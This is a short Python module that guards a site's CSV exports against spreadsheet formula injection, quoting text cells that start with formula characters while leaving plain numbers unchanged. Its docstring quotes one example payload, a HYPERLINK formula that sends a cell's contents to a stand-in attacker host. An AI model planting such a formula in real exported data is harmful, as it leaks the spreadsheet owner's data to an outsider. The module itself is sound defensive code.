"""Cells of the CSV files the site writes, made safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and
one that begins with a tab or carriage return can hide one, so a pair named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link in the
organiser's spreadsheet. OWASP's guidance on CSV injection: begin such a cell with a single
quote, which the spreadsheet shows as text and does not run.

A plain number is left as it is (``-3.50``, ``+6``, ``-12%`` are read as numbers, never as
formulas), so every figure reads back unchanged; only text is marked.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)%?")


def neutralised(cell: object) -> object:
    """``cell`` as a spreadsheet should show it: text that would run as a formula begins
    with a single quote; numbers, empty cells and other text are unchanged."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
        return cell
    if PLAIN_NUMBER.fullmatch(cell):
        return cell
    return "'" + cell


def neutralised_row(row: Iterable[object]) -> list[object]:
    return [neutralised(cell) for cell in row]
